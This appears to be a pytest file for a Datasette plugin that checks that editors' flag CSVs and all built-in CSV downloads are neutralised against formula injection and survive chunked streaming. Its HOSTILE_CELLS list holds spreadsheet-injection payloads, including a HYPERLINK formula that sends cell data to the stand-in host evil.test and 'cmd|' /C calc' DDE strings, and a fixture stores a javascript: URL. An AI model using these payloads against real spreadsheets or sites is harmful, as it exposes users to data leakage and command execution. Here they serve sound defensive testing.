"""The Datasette side, CSV: the editors' flags CSV (Excel-safe, complete, offered on the
reader and tables) and every CSV Datasette serves kept formula-safe with a BOM, however
the response is chunked."""

from __future__ import annotations

import csv
import io
import re

import pytest
from plugin_data import build_db

from db.plugin.app import make_datasette, metadata
from db.schema import open_db


@pytest.fixture
def db_path(tmp_path):
    path = tmp_path / "newsprov.db"
    build_db(path)
    return path


@pytest.fixture
def ds(db_path):
    return make_datasette(db_path)


# -- CSV for editors --------------------------------------------------------------------------
async def test_flags_csv_renderer_is_excel_safe_and_complete(ds):
    r = await ds.client.get("/newsprov/articles/1.xlcsv")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    body = r.content
    assert body.startswith("\ufeff".encode())
    assert b"\r\n" in body
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 3 + 5  # unsourced sentences + framing spans, nothing capped
    assert {r["article_id"] for r in rows} == {"1"}
    urls = {r["article_url"] for r in rows}
    assert urls == {"javascript:alert(document.domain)//http://x"}
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


async def test_flags_csv_renderer_is_not_capped_at_one_page(ds, db_path):
    db = open_db(str(db_path))
    with db.conn:
        db.conn.executemany(
            "INSERT INTO framing (article_id, start, end, text, category, reason)"
            " VALUES (2, ?, ?, '=1+1', 'doubt', '@cmd')",
            [(i, i + 1) for i in range(0, 1500)],
        )
    db.conn.close()
    r = await ds.client.get("/newsprov/framing.xlcsv?_size=10")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 1500 + 5
    assert sum(1 for row in rows if row["cue_or_phrase"] == "'=1+1") == 1500
    assert all(row["flag_type"] == "framing" for row in rows)


async def test_flags_csv_link_is_offered_on_the_reader_and_tables(ds):
    assert 'href="/newsprov/articles/1.xlcsv"' in (await ds.client.get("/-/article/1")).text
    html = (await ds.client.get("/newsprov/sentences")).text
    assert ".xlcsv" in html
    r = await ds.client.get("/newsprov/articles.xlcsv?flags=nonsense")
    assert r.status_code == 400 and "use unsourced, framing or both" in r.text


def test_metadata_names_tables_that_exist(tmp_path):
    path = tmp_path / "x.db"
    db = open_db(str(path))
    tables = set(db.table_names())
    meta = metadata("x")["databases"]["x"]
    assert set(meta["tables"]) <= tables
    for conf in meta["tables"].values():
        if "fts_table" in conf:
            assert conf["fts_table"] in tables


# -- every CSV Datasette serves is formula-safe ---------------------------------------------
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "\t=1+1",
    "  =1+1",
    '=multi\nline, "quoted"\r\n=again',
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def assert_formula_safe(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), body[:20]  # UTF-8 BOM: Excel reads accents right
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
                continue  # a plain number stays a number
            assert not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
    return rows


@pytest.fixture
def hostile_ds(db_path):
    db = open_db(str(db_path))
    with db.conn:
        db.conn.execute("UPDATE articles SET title = ? WHERE article_id = 1", (HOSTILE_CELLS[0],))
        db.conn.execute(
            "UPDATE outlets SET name = ? WHERE outlet_id = 'wire.test'", (HOSTILE_CELLS[1],)
        )
        for sid, cell in zip((1, 2, 3), HOSTILE_CELLS[2:5], strict=True):
            db.conn.execute("UPDATE sentences SET text = ? WHERE sentence_id = ?", (cell, sid))
        db.conn.execute(
            "UPDATE sentences SET reason = ? WHERE sentence_id = 1", (HOSTILE_CELLS[5],)
        )
        db.conn.execute("UPDATE sentences SET cue = ? WHERE sentence_id = 2", (HOSTILE_CELLS[6],))
        # Enough rows that the stream comes in many chunks, each row with a formula and
        # a multi-byte character, to catch any cut inside a quoted field or a character.
        db.conn.executemany(
            "INSERT INTO framing (article_id, start, end, text, category, reason)"
            " VALUES (2, ?, ?, ?, 'doubt', '@cmd')",
            [(i, i + 1, f'=1+{i}, "Zoë 😀"\n') for i in range(3000)],
        )
    db.conn.close()
    return make_datasette(db_path)


@pytest.mark.parametrize(
    "path",
    [
        "/newsprov/articles.csv",
        "/newsprov/articles.csv?_dl=on",
        "/newsprov/sentences.csv?_stream=on",
        "/newsprov/framing.csv?_stream=on&_size=max",
        "/newsprov/outlets/wire~2Etest.csv",
        "/newsprov/unsourced_assertions.csv",
        "/newsprov/unsourced_assertions.csv?_stream=on&_dl=on",
        "/newsprov.csv?sql=select+title,+-5+as+n,+'%3D1%2B1'+as+f+from+articles",
    ],
)
async def test_builtin_csv_downloads_are_formula_safe_with_a_bom(hostile_ds, path):
    r = await hostile_ds.client.get(path)
    assert r.status_code == 200, r.text[:300]
    rows = assert_formula_safe(r.content)
    cells = {c for row in rows for c in row}
    assert len(rows) >= 2
    if "framing.csv" in path:
        assert len(rows) == 1 + 5 + 3000  # header, fixture spans, every streamed row
        assert '\'=1+2999, "Zoë 😀"\n' in cells  # neutralised, quoted and whole
    if "sentences.csv" in path:
        assert "'+1+cmd|' /C calc'!A0" in cells and "'-2+3+cmd" in cells
        assert "'\t=1+1" in cells and "'  =1+1" in cells
    if "articles.csv" in path or "sql=" in path:
        assert "'" + HOSTILE_CELLS[0] in cells
    if "sql=" in path:
        assert rows[1][1:] == ["-5", "'=1+1"]
    if "outlets" in path:
        assert "'" + HOSTILE_CELLS[1] in cells
    if "_dl=on" in path:
        assert r.headers["content-type"].startswith("text/csv")
        assert "attachment" in r.headers["content-disposition"]


async def test_csv_error_and_trace_pages_are_left_alone(hostile_ds):
    r = await hostile_ds.client.get("/newsprov/no_such_table.csv")
    assert r.status_code == 404 and not r.content.startswith(b"\xef\xbb\xbf")
    r = await hostile_ds.client.get("/newsprov/articles.json")
    assert r.status_code == 200 and r.json()["rows"][0][6] == HOSTILE_CELLS[0]  # JSON is data


@pytest.mark.parametrize("seed", range(5))
def test_csv_rewriter_handles_any_chunking(seed):
    import random

    from db.plugin.csvsafe import CsvRewriter, safe_cell

    rng = random.Random(seed)
    rows = [["a", "b", "c"]] + [
        [rng.choice(HOSTILE_CELLS), f"Zoë 😀 {i}", str(rng.randint(-50, 50))] for i in range(200)
    ]
    src, want = io.StringIO(), io.StringIO()
    csv.writer(src).writerows(rows)  # Datasette's dialect
    csv.writer(want, lineterminator="\r\n").writerows([[safe_cell(c) for c in r] for r in rows])
    data = src.getvalue().encode("utf-8")
    out, rewriter, pos = [], CsvRewriter(), 0
    while pos < len(data):
        step = rng.randint(1, 40)  # cuts inside characters, quoted fields and line ends
        out.append(rewriter.feed(data[pos : pos + step]))
        pos += step
    out.append(rewriter.feed(b"", final=True))
    assert b"".join(out).decode("utf-8") == "\ufeff" + want.getvalue()
